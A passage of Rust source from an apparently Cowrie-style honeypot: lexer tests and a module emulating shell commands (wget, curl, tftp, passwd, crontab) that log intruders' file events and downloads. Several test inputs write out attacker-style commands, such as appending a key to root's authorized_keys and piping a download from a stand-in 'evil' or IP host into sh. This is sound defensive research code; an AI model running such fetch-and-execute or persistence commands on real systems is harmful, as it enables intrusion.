        assert_eq!(s.len(), 1);
        assert_eq!(s[0].pipeline.len(), 3);
        assert_eq!(s[0].pipeline[2].argv, vec!["head", "-1"]);
    }

    #[test]
    fn quotes_and_escapes() {
        let s = split_statements(r#"echo 'a b' "c d" e\ f"#);
        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "a b", "c d", "e f"]);
    }

    #[test]
    fn double_quote_escapes() {
        let s = split_statements(r#"echo "a\"b" "x\\y" "p\qr""#);
        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "a\"b", "x\\y", "p\\qr"]);
    }

    #[test]
    fn redirections() {
        let s = split_statements("echo key >> /root/.ssh/authorized_keys");
        let cmd = &s[0].pipeline[0];
        assert_eq!(cmd.argv, vec!["echo", "key"]);
        assert_eq!(
            cmd.redirs,
            vec![Redirection::Append("/root/.ssh/authorized_keys".into())]
        );
    }

    #[test]
    fn stderr_redirections() {
        let s = split_statements("wget http://x/a 2>/dev/null 2>&1");
        let cmd = &s[0].pipeline[0];
        assert_eq!(
            cmd.redirs,
            vec![Redirection::Err("/dev/null".into()), Redirection::ErrToOut,]
        );
    }

    #[test]
    fn word_starting_with_two_is_not_stderr_redir() {
        let s = split_statements("sleep 2");
        assert_eq!(s[0].pipeline[0].argv, vec!["sleep", "2"]);
    }

    #[test]
    fn background_ampersand_acts_as_separator() {
        let s = split_statements("./mal &");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].pipeline[0].argv, vec!["./mal"]);
    }

    #[test]
    fn empty_and_whitespace_inputs() {
        assert!(split_statements("").is_empty());
        assert!(split_statements("   \n ; ;; ").is_empty());
    }

    #[test]
    fn unterminated_quote_is_total() {
        let s = split_statements("echo 'oops");
        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "oops"]);
    }

    #[test]
    fn popularity_split_matches_paper_rule() {
        let parts = split_for_popularity("cd /tmp; wget http://evil/x | sh && echo done");
        // `;` and `|` split; `&&` splits too via statements — the paper's
        // tables show `&&`-joined snippets split as well.
        assert_eq!(
            parts,
            vec!["cd /tmp", "wget http://evil/x", "sh", "echo done"]
        );
    }

    #[test]
    fn interleaved_redirection_targets_do_not_break_argv() {
        // Redirection targets land in the word arena between argv words; the
        // argv index table must skip them.
        let s = split_statements("echo a > t b >> u c");
        let cmd = &s[0].pipeline[0];
        assert_eq!(cmd.argv, vec!["echo", "a", "b", "c"]);
        assert_eq!(
            cmd.redirs,
            vec![
                Redirection::Out("t".into()),
                Redirection::Append("u".into())
            ]
        );
    }

    #[test]
    fn linebuf_reuse_matches_fresh_parse() {
        let mut buf = LineBuf::new();
        for line in [
            "cd /tmp && wget http://1.2.3.4/x.sh | sh",
            "echo 'a b' > f; cat f 2>&1",
            "",
            "uname -a",
        ] {
            buf.parse(line);
            assert_eq!(buf.to_statements(), reference::split_statements(line));
        }
    }

    #[test]
    fn views_expose_borrowed_words() {
        let mut buf = LineBuf::new();
        buf.parse("tail -n 5 /var/log/wtmp 2>/dev/null");
        let stmt = buf.statement(0);
        assert_eq!(stmt.pipeline_len(), 1);
        let cmd = stmt.commands().next().unwrap();
        assert_eq!(cmd.name(), Some("tail"));
        assert_eq!(cmd.argv().len(), 4);
        assert_eq!(cmd.argv().value_of("-n"), Some("5"));
        assert_eq!(cmd.argv().tail(1).first(), Some("-n"));
        assert!(cmd.argv().contains("/var/log/wtmp"));
        assert_eq!(cmd.redirs().next(), Some(RedirView::Err("/dev/null")));
    }

    proptest! {
        /// Lexer is total and never panics.
        #[test]
        fn prop_lexer_total(input in ".{0,200}") {
            let _ = split_statements(&input);
        }

        /// Quoting a word always yields exactly that word back.
        #[test]
        fn prop_single_quote_roundtrip(w in "[ -~&&[^']]{1,40}") {
            let s = split_statements(&format!("echo '{w}'"));
            prop_assert_eq!(&s[0].pipeline[0].argv[1], &w);
        }

        /// Arena parser agrees with the reference splitter on arbitrary input.
        #[test]
        fn prop_linebuf_matches_reference(input in ".{0,200}") {
            let mut buf = LineBuf::new();
            buf.parse(&input);
            prop_assert_eq!(buf.to_statements(), reference::split_statements(&input));
        }
    }
}
