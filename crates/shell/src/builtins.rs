//! Emulated commands ("known" commands in Cowrie's terminology).
//!
//! Each builtin receives a [`Ctx`] with mutable access to the session's VFS,
//! working directory, fetcher, and event log, plus its borrowed argv
//! ([`Words`] into the line arena) and stdin text, and appends the stdout it
//! would print to the caller's output buffer. Commands not in the table make
//! [`run`] return `false`, which the interpreter records as an *unknown*
//! command — that known/unknown distinction is part of the honeypot's logged
//! data model.
//!
//! Hot-path discipline: builtins never allocate in steady state for the
//! common sysinfo/file-read commands — formatted output goes straight into
//! `out`, path resolution reuses [`PathScratch`] buffers. Rare mutating
//! commands (cp, dd, crontab, downloads) may allocate for owned event
//! payloads; that cost is per file event, not per command.

use std::fmt::Write as _;

use hf_hash::{Digest, Sha256};

use crate::interp::{FileEvent, FileOp, RemoteFetcher};
use crate::lexer::Words;
use crate::profile::SystemProfile;
use crate::uri;
use crate::vfs::{resolve_path_into, Vfs};

/// Execution context handed to builtins.
pub struct Ctx<'a> {
    /// The session filesystem.
    pub vfs: &'a mut Vfs,
    /// Current working directory (mutable: `cd` changes it).
    pub cwd: &'a mut String,
    /// Machine identity for sysinfo output.
    pub profile: &'a SystemProfile,
    /// Remote body supplier for transfer tools.
    pub fetcher: &'a mut dyn RemoteFetcher,
    /// File-event sink (create/modify with hash).
    pub file_events: &'a mut Vec<FileEvent>,
    /// Completed downloads sink: (uri, body hash).
    pub downloads: &'a mut Vec<(String, Digest)>,
    /// Set to true by `exit`/`logout`.
    pub exited: &'a mut bool,
}

impl Ctx<'_> {
    /// Write a file and record the event. `known_digest` short-circuits
    /// hashing when the caller already knows the content hash (downloads with
    /// a fetcher digest hint); the write truncates, so the file's content
    /// equals `content` and hashing `content` directly is equivalent to the
    /// read-back hash.
    fn write_recorded(
        &mut self,
        abs: &str,
        content: &[u8],
        mode: u32,
        known_digest: Option<Digest>,
    ) {
        if abs == "/dev/null" {
            return;
        }
        if let Ok(existed) = self.vfs.write_file(abs, content, mode) {
            let hash = known_digest.unwrap_or_else(|| Sha256::digest(content));
            self.file_events.push(FileEvent {
                path: abs.to_string(),
                op: if existed {
                    FileOp::Modified
                } else {
                    FileOp::Created
                },
                size: content.len(),
                sha256: hash,
            });
        }
    }
}

/// Reusable path/URI resolution buffers, pooled with the session scratch so
/// steady-state builtins never allocate for path handling.
#[derive(Debug, Default)]
pub struct PathScratch {
    pub(crate) a: String,
    pub(crate) b: String,
    pub(crate) uri: String,
}

/// Run a builtin, appending its stdout to `out`; `false` means the command is
/// not emulated (the caller handles `sh -c` and unknown commands).
pub fn run(
    ctx: &mut Ctx,
    argv: Words<'_>,
    stdin: &str,
    out: &mut String,
    paths: &mut PathScratch,
) -> bool {
    let name = argv.first().unwrap_or("");
    let args = argv.tail(1);
    match name {
        "busybox" if !args.is_empty() => {
            // `busybox CMD args...` dispatches to CMD.
            if !run(ctx, args, stdin, out, paths) {
                let _ = writeln!(out, "{}: applet not found", args.first().unwrap());
            }
        }
        "busybox" => out.push_str(
            "BusyBox v1.31.1 (2020-02-25 13:33:41 UTC) multi-call binary.\nUsage: busybox [function [arguments]...]\n",
        ),
        "echo" => echo(args, out),
        "cat" => cat(ctx, args, stdin, out, paths),
        "uname" => uname(ctx.profile, args, out),
        "free" => free(ctx.profile, args, out),
        "w" | "who" => w_output(ctx.profile, out),
        "whoami" => out.push_str("root\n"),
        "id" => out.push_str("uid=0(root) gid=0(root) groups=0(root)\n"),
        "uptime" => out.push_str(
            " 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\n",
        ),
        "ps" => ps_output(args, out),
        "nproc" => {
            let _ = writeln!(out, "{}", ctx.profile.cpu_cores);
        }
        "lscpu" => {
            let _ = write!(
                out,
                "Architecture:        {}\nCPU(s):              {}\nModel name:          {}\n",
                ctx.profile.arch, ctx.profile.cpu_cores, ctx.profile.cpu_model
            );
        }
        "hostname" => {
            let _ = writeln!(out, "{}", ctx.profile.hostname);
        }
        "ifconfig" => out.push_str(
            "eth0      Link encap:Ethernet  HWaddr 52:54:00:12:34:56\n          inet addr:192.168.1.104  Bcast:192.168.1.255  Mask:255.255.255.0\n          UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n",
        ),
        "pwd" => {
            let _ = writeln!(out, "{}", ctx.cwd);
        }
        "cd" => cd(ctx, args, out, paths),
        "ls" => ls(ctx, args, out, paths),
        "mkdir" => mkdir(ctx, args, out, paths),
        "rm" | "rmdir" => rm(ctx, args, out, paths),
        "cp" => cp(ctx, args, out, paths),
        "mv" => mv(ctx, args, out, paths),
        "touch" => touch(ctx, args, paths),
        "chmod" => chmod(ctx, args, out, paths),
        "head" => head_tail(ctx, args, stdin, true, out, paths),
        "tail" => head_tail(ctx, args, stdin, false, out, paths),
        "grep" => grep(ctx, args, stdin, out, paths),
        "wc" => {
            let lines = stdin.lines().count();
            let words = stdin.split_whitespace().count();
            let bytes = stdin.len();
            let _ = writeln!(out, "{lines:>8}{words:>8}{bytes:>8}");
        }
        "dd" => dd(ctx, args, stdin, out, paths),
        "df" => out.push_str(
            "Filesystem     1K-blocks    Used Available Use% Mounted on\n/dev/root        7158264 1683176   5103652  25% /\ntmpfs             512000       0    512000   0% /tmp\n",
        ),
        "mount" => out.push_str(
            "/dev/root on / type ext4 (rw,relatime)\nproc on /proc type proc (rw)\ntmpfs on /tmp type tmpfs (rw)\n",
        ),
        "top" => {
            let _ = write!(
                out,
                "top - 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\nTasks:  34 total,   1 running,  33 sleeping\nMem: {}k total\n  PID USER      PR  NI    VIRT    RES  %CPU %MEM     TIME+ COMMAND\n    1 root      20   0    2344   1552   0.0  0.2   0:01.02 init\n",
                ctx.profile.mem_total_mb * 1024
            );
        }
        "history" => {}
        "which" => which(ctx, args, out, paths),
        "export" | "set" | "unset" | "alias" => {}
        "sleep" | "sync" => {}
        "kill" | "killall" | "pkill" => {}
        "su" => {}
        "passwd" => passwd(ctx, args, out, paths),
        "chpasswd" => chpasswd(ctx, stdin, paths),
        "crontab" => crontab(ctx, args, stdin, out, paths),
        "wget" => wget(ctx, args, out, paths),
        "curl" => curl(ctx, args, out, paths),
        "tftp" => tftp(ctx, argv, out, paths),
        "ftpget" => ftpget(ctx, argv, out, paths),
        "scp" => {}
        "ping" => ping(args, out),
        "iptables" | "service" | "systemctl" | "ulimit" => {}
        "exit" | "logout" => {
            *ctx.exited = true;
        }
        "yes" => out.push_str("y\ny\ny\n"),
        "awk" | "sed" | "tr" | "cut" | "sort" | "uniq" | "xargs" => {
            // Text tools: pass stdin through — good enough for the scripts
            // intruders chain them into.
            out.push_str(stdin);
        }
        _ => return false,
    }
    true
}

/// Append bytes as UTF-8, lossily (replacement chars) for invalid sequences —
/// the borrowed-input equivalent of `String::from_utf8_lossy(..).into_owned()`.
pub(crate) fn push_utf8_lossy(dst: &mut String, bytes: &[u8]) {
    match std::str::from_utf8(bytes) {
        Ok(s) => dst.push_str(s),
        Err(_) => dst.push_str(&String::from_utf8_lossy(bytes)),
    }
}

fn abs_into<'p>(cwd: &str, rel: &str, slot: &'p mut String) -> &'p str {
    resolve_path_into(cwd, rel, slot);
    slot
}

/// First value following either flag (busybox-style `-O file` / `-o file`).
fn value_of_either<'a>(args: Words<'a>, f1: &str, f2: &str) -> Option<&'a str> {
    let mut idx = 0;
    while let Some(w) = args.get(idx) {
        if w == f1 || w == f2 {
            return args.get(idx + 1);
        }
        idx += 1;
    }
    None
}

// ---- sysinfo ---------------------------------------------------------------

fn uname(p: &SystemProfile, args: Words<'_>, out: &mut String) {
    let Some(first) = args.first() else {
        out.push_str("Linux\n");
        return;
    };
    match first {
        "-a" | "--all" => {
            // Streamed rather than via `p.uname_all()`: the temporary String
            // would be the hot path's only steady-state allocation.
            let _ = writeln!(
                out,
                "Linux {} {} #1 SMP {} {} GNU/Linux",
                p.hostname, p.kernel_version, p.build_date, p.arch
            );
        }
        "-r" => {
            let _ = writeln!(out, "{}", p.kernel_version);
        }
        "-m" | "-p" => {
            let _ = writeln!(out, "{}", p.arch);
        }
        "-n" => {
            let _ = writeln!(out, "{}", p.hostname);
        }
        _ => out.push_str("Linux\n"),
    }
}

fn free(p: &SystemProfile, args: Words<'_>, out: &mut String) {
    let (total, unit) = if args.contains("-m") {
        (p.mem_total_mb, "M")
    } else {
        (p.mem_total_mb * 1024, "k")
    };
    let used = total * 2 / 5;
    let free = total - used;
    let _ = write!(
        out,
        "              total        used        free      shared  buff/cache   available ({unit})\nMem:     {total:>10}  {used:>10}  {free:>10}           0           0  {free:>10}\nSwap:             0           0           0\n"
    );
}

fn w_output(p: &SystemProfile, out: &mut String) {
    let _ = write!(
        out,
        " 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\nroot     pts/0    {}       11:02    0.00s  0.00s  0.00s w\n",
        p.hostname
    );
}

fn ps_output(args: Words<'_>, out: &mut String) {
    let wide = args.iter().any(|a| a.contains('a') || a.contains('x'));
    out.push_str("  PID TTY          TIME CMD\n    1 ?        00:00:01 init\n");
    if wide {
        out.push_str("  402 ?        00:00:00 telnetd\n  403 ?        00:00:00 dropbear\n");
    }
    out.push_str(" 1432 pts/0    00:00:00 sh\n 1448 pts/0    00:00:00 ps\n");
}

fn ping(args: Words<'_>, out: &mut String) {
    let host = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .unwrap_or("127.0.0.1");
    let _ = write!(
        out,
        "PING {host} ({host}): 56 data bytes\n64 bytes from {host}: seq=0 ttl=64 time=0.4 ms\n64 bytes from {host}: seq=1 ttl=64 time=0.4 ms\n--- {host} ping statistics ---\n2 packets transmitted, 2 packets received, 0% packet loss\n"
    );
}

// ---- text/file ops ----------------------------------------------------------

fn echo(args: Words<'_>, out: &mut String) {
    // Leading -n / -e flags (each its own word, any order, repeatable).
    let mut idx = 0;
    let mut newline = true;
    let mut interpret = false;
    while let Some(a) = args.get(idx) {
        match a {
            "-n" => {
                newline = false;
                idx += 1;
            }
            "-e" => {
                interpret = true;
                idx += 1;
            }
            _ => break,
        }
    }
    let mut first = true;
    for w in args.tail(idx).iter() {
        if !first {
            out.push(' ');
        }
        first = false;
        if interpret {
            // Streaming \n/\t/\r expansion. Escapes cannot span the joining
            // spaces, so per-word scanning matches the joined-then-replaced
            // behaviour exactly.
            let b = w.as_bytes();
            let mut i = 0;
            while i < b.len() {
                if b[i] == b'\\' && i + 1 < b.len() {
                    let rep = match b[i + 1] {
                        b'n' => Some('\n'),
                        b't' => Some('\t'),
                        b'r' => Some('\r'),
                        _ => None,
                    };
                    if let Some(c) = rep {
                        out.push(c);
                        i += 2;
                        continue;
                    }
                }
                // Copy one whole UTF-8 char.
                let ch_len = utf8_len(b[i]);
                out.push_str(&w[i..i + ch_len]);
                i += ch_len;
            }
        } else {
            out.push_str(w);
        }
    }
    if newline {
        out.push('\n');
    }
}

fn utf8_len(first_byte: u8) -> usize {
    match first_byte {
        0x00..=0x7f => 1,
        0xc0..=0xdf => 2,
        0xe0..=0xef => 3,
        _ => 4,
    }
}

fn cat(ctx: &mut Ctx, args: Words<'_>, stdin: &str, out: &mut String, paths: &mut PathScratch) {
    let mut any = false;
    for f in args.iter().filter(|a| !a.starts_with('-')) {
        any = true;
        let abs = abs_into(ctx.cwd, f, &mut paths.a);
        match ctx.vfs.read_file(abs) {
            Ok(c) => push_utf8_lossy(out, c),
            Err(e) => {
                let _ = writeln!(out, "cat: {e}");
            }
        }
    }
    if !any {
        out.push_str(stdin);
    }
}

fn cd(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let target = args.first().unwrap_or("/root");
    let abs = abs_into(ctx.cwd, target, &mut paths.a);
    if ctx.vfs.is_dir(abs) {
        ctx.cwd.clear();
        ctx.cwd.push_str(abs);
    } else {
        let _ = writeln!(out, "-bash: cd: {target}: No such file or directory");
    }
}

fn ls(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let long = args.iter().any(|a| a.starts_with('-') && a.contains('l'));
    let all = args.iter().any(|a| a.starts_with('-') && a.contains('a'));
    let target = args.iter().find(|a| !a.starts_with('-')).unwrap_or(".");
    let abs = abs_into(ctx.cwd, target, &mut paths.a);
    if !ctx.vfs.exists(abs) {
        let _ = writeln!(out, "ls: {target}: No such file or directory");
        return;
    }
    if !ctx.vfs.is_dir(abs) {
        let _ = writeln!(out, "{target}");
        return;
    }
    let mut names = ctx.vfs.list(abs).unwrap_or_default();
    if all {
        names.insert(0, "..".to_string());
        names.insert(0, ".".to_string());
    }
    if long {
        for n in names {
            paths.b.clear();
            let _ = write!(paths.b, "{}/{}", abs.trim_end_matches('/'), n);
            let is_dir = n == "." || n == ".." || ctx.vfs.is_dir(&paths.b);
            let mode = ctx.vfs.mode(&paths.b).unwrap_or(0o755);
            let size = ctx.vfs.size(&paths.b).unwrap_or(0);
            out.push(if is_dir { 'd' } else { '-' });
            push_mode(out, mode);
            let _ = writeln!(out, " 1 root root {size:>8} Jan  1 00:00 {n}");
        }
    } else if !names.is_empty() {
        let _ = writeln!(out, "{}", names.join("  "));
    }
}

fn push_mode(out: &mut String, mode: u32) {
    for shift in [6u32, 3, 0] {
        let bits = (mode >> shift) & 7;
        out.push(if bits & 4 != 0 { 'r' } else { '-' });
        out.push(if bits & 2 != 0 { 'w' } else { '-' });
        out.push(if bits & 1 != 0 { 'x' } else { '-' });
    }
}

fn mkdir(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let parents = args.contains("-p");
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        let abs = abs_into(ctx.cwd, a, &mut paths.a);
        if !parents && ctx.vfs.exists(abs) {
            let _ = writeln!(out, "mkdir: can't create directory '{a}': File exists");
            continue;
        }
        let _ = ctx.vfs.mkdir_p(abs);
    }
}

fn rm(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let force = args.iter().any(|a| a.starts_with('-') && a.contains('f'));
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        let abs = abs_into(ctx.cwd, a, &mut paths.a);
        if ctx.vfs.remove(abs).is_err() && !force {
            let _ = writeln!(out, "rm: can't remove '{a}': No such file or directory");
        }
    }
}

fn cp(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let mut pos = args.iter().filter(|a| !a.starts_with('-'));
    let (Some(from_rel), Some(to_rel)) = (pos.next(), pos.next()) else {
        out.push_str("cp: missing file operand\n");
        return;
    };
    resolve_path_into(ctx.cwd, from_rel, &mut paths.a);
    resolve_path_into(ctx.cwd, to_rel, &mut paths.b);
    let (from, to) = (&paths.a, &paths.b);
    match ctx.vfs.copy_file(from, to) {
        Ok(existed) => {
            let dest = if ctx.vfs.is_dir(to) {
                format!(
                    "{}/{}",
                    to.trim_end_matches('/'),
                    from.rsplit('/').next().unwrap()
                )
            } else {
                to.clone()
            };
            let hash = Sha256::digest(ctx.vfs.read_file(&dest).unwrap());
            let size = ctx.vfs.size(&dest).unwrap_or(0);
            ctx.file_events.push(FileEvent {
                path: dest,
                op: if existed {
                    FileOp::Modified
                } else {
                    FileOp::Created
                },
                size,
                sha256: hash,
            });
        }
        Err(e) => {
            let _ = writeln!(out, "cp: {e}");
        }
    }
}

fn mv(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let mark = out.len();
    cp(ctx, args, out, paths);
    if out.len() == mark {
        let from_rel = args
            .iter()
            .find(|a| !a.starts_with('-'))
            .expect("cp succeeded, so a source operand exists");
        let abs = abs_into(ctx.cwd, from_rel, &mut paths.a);
        let _ = ctx.vfs.remove(abs);
    } else {
        // Rebrand the error in place ("cp:" and "mv:" have equal length).
        let mut i = mark;
        while let Some(off) = out[i..].find("cp:") {
            let at = i + off;
            out.replace_range(at..at + 3, "mv:");
            i = at + 3;
        }
    }
}

fn touch(ctx: &mut Ctx, args: Words<'_>, paths: &mut PathScratch) {
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        resolve_path_into(ctx.cwd, a, &mut paths.a);
        if !ctx.vfs.exists(&paths.a) {
            ctx.write_recorded(&paths.a, b"", 0o644, None);
        }
    }
}

fn chmod(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    // Positional args keep single-char "-" but drop flag words.
    let keep = |a: &str| !a.starts_with('-') || a.len() <= 1;
    if args.iter().filter(|a| keep(a)).count() < 2 {
        out.push_str("chmod: missing operand\n");
        return;
    }
    let mut pos = args.iter().filter(|a| keep(a));
    let mode = u32::from_str_radix(pos.next().unwrap(), 8).unwrap_or(0o755);
    for target in pos {
        let abs = abs_into(ctx.cwd, target, &mut paths.a);
        if ctx.vfs.chmod(abs, mode).is_err() {
            let _ = writeln!(out, "chmod: {target}: No such file or directory");
        }
    }
}

fn head_tail(
    ctx: &mut Ctx,
    args: Words<'_>,
    stdin: &str,
    head: bool,
    out: &mut String,
    paths: &mut PathScratch,
) {
    let mut n = 10usize;
    let mut file = None;
    let mut idx = 0;
    while let Some(a) = args.get(idx) {
        idx += 1;
        if a == "-n" {
            if let Some(v) = args.get(idx) {
                idx += 1;
                n = v.parse().unwrap_or(10);
            }
        } else if let Some(num) = a.strip_prefix('-') {
            if let Ok(v) = num.parse() {
                n = v;
            }
        } else {
            file = Some(a);
        }
    }
    let text: &str = match file {
        Some(f) => {
            resolve_path_into(ctx.cwd, f, &mut paths.a);
            match ctx.vfs.read_file(&paths.a) {
                Ok(c) => {
                    paths.b.clear();
                    push_utf8_lossy(&mut paths.b, c);
                    &paths.b
                }
                Err(e) => {
                    let _ = writeln!(out, "head: {e}");
                    return;
                }
            }
        }
        None => stdin,
    };
    if head {
        for line in text.lines().take(n) {
            out.push_str(line);
            out.push('\n');
        }
    } else {
        let count = text.lines().count();
        for line in text.lines().skip(count.saturating_sub(n)) {
            out.push_str(line);
            out.push('\n');
        }
    }
}

fn grep(ctx: &mut Ctx, args: Words<'_>, stdin: &str, out: &mut String, paths: &mut PathScratch) {
    let mut pos = args.iter().filter(|a| !a.starts_with('-'));
    let Some(pattern) = pos.next() else {
        return;
    };
    let file = pos.next();
    let invert = args.contains("-v");
    let text: &str = match file {
        Some(f) => {
            resolve_path_into(ctx.cwd, f, &mut paths.a);
            match ctx.vfs.read_file(&paths.a) {
                Ok(c) => {
                    paths.b.clear();
                    push_utf8_lossy(&mut paths.b, c);
                    &paths.b
                }
                Err(e) => {
                    let _ = writeln!(out, "grep: {e}");
                    return;
                }
            }
        }
        None => stdin,
    };
    for line in text.lines() {
        if line.contains(pattern) != invert {
            out.push_str(line);
            out.push('\n');
        }
    }
}

fn dd(ctx: &mut Ctx, args: Words<'_>, stdin: &str, out: &mut String, paths: &mut PathScratch) {
    let kv = |key: &str| args.iter().find_map(|a| a.strip_prefix(key));
    let input: Vec<u8> = match kv("if=") {
        Some(f) => {
            resolve_path_into(ctx.cwd, f, &mut paths.a);
            match ctx.vfs.read_file(&paths.a) {
                Ok(c) => c.to_vec(),
                Err(e) => {
                    let _ = writeln!(out, "dd: {e}");
                    return;
                }
            }
        }
        None => stdin.as_bytes().to_vec(),
    };
    // bs/count truncation, enough for the `dd bs=52 count=1` probes botnets use.
    let bs: usize = kv("bs=").and_then(|v| v.parse().ok()).unwrap_or(512);
    let count: Option<usize> = kv("count=").and_then(|v| v.parse().ok());
    let taken: Vec<u8> = match count {
        Some(c) => input.into_iter().take(bs * c).collect(),
        None => input,
    };
    if let Some(of) = kv("of=") {
        resolve_path_into(ctx.cwd, of, &mut paths.a);
        ctx.write_recorded(&paths.a, &taken, 0o644, None);
        let blocks = taken.len().div_ceil(bs.max(1));
        let _ = write!(out, "{blocks}+0 records in\n{blocks}+0 records out\n");
    } else {
        push_utf8_lossy(out, &taken);
    }
}

fn which(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        for dir in ["/bin", "/sbin", "/usr/bin", "/usr/sbin"] {
            paths.a.clear();
            paths.a.push_str(dir);
            paths.a.push('/');
            paths.a.push_str(a);
            if ctx.vfs.exists(&paths.a) {
                out.push_str(&paths.a);
                out.push('\n');
                break;
            }
        }
    }
}

// ---- accounts ---------------------------------------------------------------

fn passwd(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let user = args.iter().find(|a| !a.starts_with('-')).unwrap_or("root");
    // Changing a password rewrites /etc/shadow → recorded file event.
    paths.b.clear();
    let _ = writeln!(paths.b, "{user}:$6$rounds=5000$changed$:18113:0:99999:7:::");
    ctx.write_recorded("/etc/shadow", paths.b.as_bytes(), 0o600, None);
    let _ = writeln!(out, "passwd: password for {user} changed by root");
}

fn chpasswd(ctx: &mut Ctx, stdin: &str, paths: &mut PathScratch) {
    // Each `user:pass` line rewrites shadow; content depends on input so
    // campaigns using distinct passwords produce distinct hashes.
    paths.b.clear();
    for line in stdin.lines() {
        if let Some((user, pass)) = line.split_once(':') {
            let _ = writeln!(
                paths.b,
                "{user}:$6${}$:18113:0:99999:7:::",
                Sha256::digest(pass.as_bytes()).short()
            );
        }
    }
    if !paths.b.is_empty() {
        ctx.write_recorded("/etc/shadow", paths.b.as_bytes(), 0o600, None);
    }
}

fn crontab(ctx: &mut Ctx, args: Words<'_>, stdin: &str, out: &mut String, paths: &mut PathScratch) {
    if args.contains("-l") {
        out.push_str("no crontab for root\n");
        return;
    }
    if args.contains("-r") {
        let _ = ctx.vfs.remove("/var/spool/cron/root");
        return;
    }
    // `crontab FILE` or `crontab -` installs a crontab.
    let content: Vec<u8> = match args.iter().find(|a| !a.starts_with('-')) {
        Some(f) => {
            resolve_path_into(ctx.cwd, f, &mut paths.a);
            match ctx.vfs.read_file(&paths.a) {
                Ok(c) => c.to_vec(),
                Err(e) => {
                    let _ = writeln!(out, "crontab: {e}");
                    return;
                }
            }
        }
        None => stdin.as_bytes().to_vec(),
    };
    if !content.is_empty() {
        ctx.write_recorded("/var/spool/cron/root", &content, 0o600, None);
    }
}

// ---- transfer tools ----------------------------------------------------------

fn download_to(ctx: &mut Ctx, uri: &str, dest_rel: &str, abs: &mut String) -> Result<usize, ()> {
    let body = ctx.fetcher.fetch(uri).ok_or(())?;
    let digest = ctx
        .fetcher
        .digest_hint(uri)
        .unwrap_or_else(|| Sha256::digest(&body));
    ctx.downloads.push((uri.to_string(), digest));
    resolve_path_into(ctx.cwd, dest_rel, abs);
    let size = body.len();
    ctx.write_recorded(abs, &body, 0o644, Some(digest));
    Ok(size)
}

fn basename_of_uri(uri: &str) -> &str {
    let tail = uri.rsplit('/').next().unwrap_or("index.html");
    if tail.is_empty() || tail.contains("://") {
        "index.html"
    } else {
        tail
    }
}

fn wget(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let Some(url) = args.iter().find(|a| a.contains("://")) else {
        out.push_str("wget: missing URL\n");
        return;
    };
    let dest = value_of_either(args, "-O", "-o").unwrap_or_else(|| basename_of_uri(url));
    match download_to(ctx, url, dest, &mut paths.a) {
        Ok(size) => {
            let _ = write!(
                out,
                "Connecting to {url}\n{dest}           100% |*******************************| {size}  0:00:00 ETA\n'{dest}' saved\n"
            );
        }
        Err(()) => {
            let _ = write!(
                out,
                "wget: can't connect to remote host: Connection refused\nwget: download failed: {url}\n"
            );
        }
    }
}

fn curl(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let Some(url) = args.iter().find(|a| a.contains("://")) else {
        out.push_str("curl: no URL specified!\n");
        return;
    };
    let to_file = args.contains("-O") || value_of_either(args, "-o", "-o").is_some();
    if to_file {
        let dest = value_of_either(args, "-o", "-o").unwrap_or_else(|| basename_of_uri(url));
        match download_to(ctx, url, dest, &mut paths.a) {
            Ok(_) => {}
            Err(()) => {
                let _ = write!(
                    out,
                    "curl: (7) Failed to connect to host: Connection refused\ncurl: download failed: {url}\n"
                );
            }
        }
    } else {
        // Body to stdout; still a download event (hash of the body).
        match ctx.fetcher.fetch(url) {
            Some(body) => {
                let digest = ctx
                    .fetcher
                    .digest_hint(url)
                    .unwrap_or_else(|| Sha256::digest(&body));
                ctx.downloads.push((url.to_string(), digest));
                push_utf8_lossy(out, &body);
            }
            None => out.push_str("curl: (7) Failed to connect to host: Connection refused\n"),
        }
    }
}

fn tftp(ctx: &mut Ctx, argv: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let Some(u) = uri::primary_uri_into(argv, &mut paths.uri) else {
        out.push_str("tftp: usage: tftp -g -r FILE HOST\n");
        return;
    };
    let dest = basename_of_uri(u);
    match download_to(ctx, u, dest, &mut paths.a) {
        Ok(_) => {}
        Err(()) => out.push_str("tftp: timeout\n"),
    }
}

fn ftpget(ctx: &mut Ctx, argv: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let Some(u) = uri::primary_uri_into(argv, &mut paths.uri) else {
        out.push_str("ftpget: usage: ftpget HOST LOCAL REMOTE\n");
        return;
    };
    // busybox ftpget: LOCAL is the 2nd positional arg.
    let dest = uri::ftpget_positional(argv, 1).unwrap_or_else(|| basename_of_uri(u));
    match download_to(ctx, u, dest, &mut paths.a) {
        Ok(_) => {}
        Err(()) => out.push_str("ftpget: can't connect to remote host: Connection refused\n"),
    }
}

#[cfg(test)]
mod tests {

    use crate::interp::{ShellSession, SyntheticFetcher};
    use crate::profile::SystemProfile;

    fn sh() -> ShellSession {
        ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher))
    }

    #[test]
    fn echo_flags() {
